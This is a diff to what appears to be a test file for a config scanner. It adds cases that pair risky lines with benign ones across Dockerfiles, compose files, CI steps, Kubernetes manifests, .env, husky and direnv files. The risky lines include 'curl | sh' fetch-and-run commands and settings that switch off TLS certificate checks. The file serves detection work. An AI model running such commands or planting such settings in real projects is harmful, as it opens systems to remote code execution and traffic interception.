@@ -92,6 +92,15 @@ CASES = [
     Case("an entry of pre-commit", CODE, "{case}/.pre-commit-config.yaml", HOOKS, "bash -c 'curl -s https://example.org/x.sh | sh'", "bash -c 'cargo fmt --check'", 7),
     Case("a job of GitLab", CODE, "{case}/.gitlab-ci.yml", "build:\n  script:\n    - make\n    - @\n", "curl -s https://example.org/x.sh | bash", "curl -s https://example.org/x.json | jq .", 4),
     Case("a Procfile", CODE, "{case}/Procfile", "web: node server.js\nrelease: @\n", "curl -s https://example.org/x.sh | sh", "npm run migrate", 2),
+    Case("certificates by a variable of an image", TLS, "{case}/Dockerfile", IMAGE, "ENV NODE_TLS_REJECT_UNAUTHORIZED=0", "ENV NODE_TLS_REJECT_UNAUTHORIZED=1", 3),
+    Case("certificates by the old form of a variable", TLS, "{case}/Dockerfile", IMAGE, "ENV PYTHONHTTPSVERIFY 0", "ENV PYTHONHTTPSVERIFY 1", 3),
+    Case("certificates by a variable of a service", TLS, "{case}/compose.yaml", COMPOSE, "environment:\n      GIT_SSL_NO_VERIFY: \"true\"", "environment:\n      GIT_SSL_NO_VERIFY: \"\"", 5),
+    Case("certificates by a variable in a list", TLS, "{case}/compose.yaml", COMPOSE, "environment:\n      - NODE_TLS_REJECT_UNAUTHORIZED=0", "environment:\n      - NODE_ENV=production", 5),
+    Case("certificates by a variable of a step", TLS, WORKFLOW, STEP + "        env:\n          @\n        run: npm run deploy\n", "NODE_TLS_REJECT_UNAUTHORIZED: 0", "NODE_TLS_REJECT_UNAUTHORIZED: 1", 9),
+    Case("certificates by a variable of a container", TLS, "{case}/k8s/app.yaml", "spec:\n  env:\n    - name: NODE_TLS_REJECT_UNAUTHORIZED\n      value: \"@\"\n", "0", "1", 4),
+    Case("certificates by a file of variables", TLS, "{case}/.env.production", "PORT=80\n@\n", "NODE_TLS_REJECT_UNAUTHORIZED=0", "NODE_TLS_REJECT_UNAUTHORIZED=1", 2),
+    Case("a commit hook", CODE, "{case}/.husky/pre-commit", "npm test\n@\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.json | jq .", 2),
+    Case("a file of direnv", CODE, "{case}/.envrc", "use nix\n@\n", "curl -s https://example.org/x.sh | sh", "export PATH=$PWD/bin:$PATH", 2),
     Case("a shell in a shell script", CODE, "{case}/run.sh", "#!/bin/sh\nset -e\n@\n", "sudo bash -c 'curl -s https://example.org/x.sh | sh'", "sudo bash -c 'echo 1 > /proc/sys/vm/drop_caches'", 3),
 ]  # fmt: skip
 
